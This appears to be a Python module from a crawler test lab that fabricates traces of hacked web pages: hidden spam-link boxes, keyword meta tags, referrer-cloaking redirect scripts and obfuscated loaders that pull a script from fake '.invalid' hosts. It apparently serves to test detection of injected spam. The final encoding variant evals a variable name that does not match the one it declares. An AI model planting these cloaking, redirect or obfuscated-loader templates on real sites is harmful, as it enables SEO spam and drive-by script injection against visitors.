"""What intruders leave on a good page: hidden links, scripts, declarations that do not fit."""

from __future__ import annotations

from html import escape
from typing import TYPE_CHECKING, Final

from quarkcrawl.lab.mockweb.site.model import Intrusion
from quarkcrawl.lab.mockweb.site.spam.phrases import SUBJECT_KINDS, phrase

if TYPE_CHECKING:
    from quarkcrawl.lab.mockweb.dice import Dice


_BOXES: Final = (
    '<div style="position:absolute;left:-{n}px;top:-{n}px">{links}</div>',
    '<div style="position:fixed; top:-{n}px">{links}</div>',
    '<div style="height:0;overflow:hidden">{links}</div>',
    '<div style="OVERFLOW:hidden;WIDTH:1px;HEIGHT:1px">{links}</div>',
    '<ul style="font-size:1px;line-height:1px">{links}</ul>',
    '<div style="display:none">{links}</div>',
    '<span style="visibility: hidden">{links}</span>',
    '<div style="display: none !important"><p>{links}</p></div>',
    '<p style="background:#ffffff;color:#ffffff">{links}</p>',
    '<marquee height="1" width="1" scrollamount="{n}">{links}</marquee>',
    '<style>.{name}{{position:absolute;left:-{n}px}}</style><div class="{name}">{links}</div>',
    '<style>#{name} {{ display : none }}</style><div id="{name}">{links}</div>',
    '<div id="{name}">{links}</div><script>{hide}</script>',
    '<div style="text-indent:-{n}px">{links}</div>',
    '<font color="#FFFFFF">{links}</font>',
)
_HIDE: Final = 'document.getElementById("{name}").style.display="none";'
_REDIRECTS: Final = (
    """var s=document.referrer;if(s.indexOf('baidu')>0||s.indexOf('sogou')>0||s.indexOf('so.com')>0)
    {{self.location='http://{host}/';}}""",
    "if(/google|bing|baidu/i.test(document.referrer)){{window.location.href='https://{host}/?k'}}",
    """var u=navigator.userAgent;
    if(!/baiduspider|googlebot/i.test(u)){{location.replace('http://{host}')}}""",
    """var r=document.referrer;if(r.match(/(baidu|yahoo|google)\\./)){{
    document.write('<iframe src="http://{host}/" width=100% height=3000></iframe>')}}""",
)
_LOADER: Final = "document.write('<script src=\"http://{host}/j.js\"></scr'+'ipt>')"


def links_block(dice: Dice, kind: str, *, is_english: bool) -> str:
    """Links to hosts that do not exist, in a box that nobody sees."""
    rule = "english_anchor" if is_english else "anchor"
    links = "\n".join(
        f'<a href="http://{host(dice)}/">{escape(phrase(dice, kind, rule))}</a>'
        for _ in range(dice.between(4, 25))
    )
    name = "b" + str(dice.between(100, 9999))
    hide = _HIDE.format(name=name)
    return dice.pick(_BOXES).format(links=links, n=dice.between(900, 9999), name=name, hide=hide)


def host(dice: Dice) -> str:
    """Name of a host that does not exist."""
    letters = "".join(chr(97 + dice.below(26)) for _ in range(dice.between(3, 7)))
    return f"www.{letters}{dice.below(1000)}.invalid"


def intrusion(dice: Dice) -> Intrusion:
    """At least two traces of intruders, chosen by chance."""
    traces = [trace for trace in ("links", "title", "redirect", "encoded") if dice.chance(0.55)]
    if len(traces) < 2:
        traces = ["links", dice.pick(("title", "redirect", "encoded"))]
    kind = dice.pick(SUBJECT_KINDS)
    is_english = dice.chance(0.3)
    title = head = lead = tail = ""
    if "title" in traces:
        title = phrase(dice, kind, "english_title" if is_english else "title")
        head += declarations(dice, kind, is_english=is_english)
    if "redirect" in traces:
        head += f"\n<script>{dice.pick(_REDIRECTS).format(host=host(dice))}</script>"
    if "encoded" in traces:
        tail += f"\n<script>{_encoded(dice)}</script>"
    if "links" in traces:
        block = links_block(dice, kind, is_english=is_english)
        lead, tail = (block, tail) if dice.chance(0.4) else ("", tail + "\n" + block)
    return Intrusion(title, head.strip(), lead, tail.strip())


def declarations(dice: Dice, kind: str, *, is_english: bool) -> str:
    """Meta elements that say what is sold."""
    rule = "english_anchor" if is_english else "keyword"
    words = ",".join(phrase(dice, kind, rule) for _ in range(dice.between(3, 9)))
    said = phrase(dice, kind, "english" if is_english else "sentence")
    keywords = f'<meta name="keywords" content="{escape(words)}">'
    return f'{keywords}\n<meta name="description" content="{escape(said)}">'


def _encoded(dice: Dice) -> str:
    """A program that loads another, in one of the usual codings."""
    source = _LOADER.format(host=host(dice))
    form = dice.below(4)
    if form == 0:
        return f"eval(String.fromCharCode({','.join(str(ord(char)) for char in source)}))"
    if form == 1:
        return "document.write(unescape('" + "".join(f"%{ord(char):02X}" for char in source) + "'))"
    if form == 2:
        hexes = "".join(f"\\x{ord(char):02x}" for char in source)
        return f'window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["write"]("{hexes}")'
    hexes = "".join(f"\\x{ord(char):02x}" for char in source)
    return f'var _0x{dice.between(1000, 9999)}=["{hexes}"];eval(_0x[0])'
